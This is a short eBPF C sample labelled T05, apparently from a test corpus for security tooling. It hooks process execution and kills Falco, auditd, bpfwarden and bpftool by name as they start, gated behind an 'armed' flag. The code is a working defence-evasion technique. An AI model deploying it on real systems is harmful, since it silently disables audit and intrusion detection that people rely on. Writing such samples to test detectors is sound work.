// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T05: security tools are recognised by name as they start and killed at once.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

SEC("raw_tp/sched_process_exec")
int kill_agent(void *ctx)
{
	char comm[16] = {};

	bpf_get_current_comm(comm, sizeof(comm));
	if (STARTS(comm, "falco") || STARTS(comm, "auditd") || STARTS(comm, "bpfwarden") || STARTS(comm, "bpftool"))
		if (sample_armed)
			bpf_send_signal_thread(9);
	return 0;
}
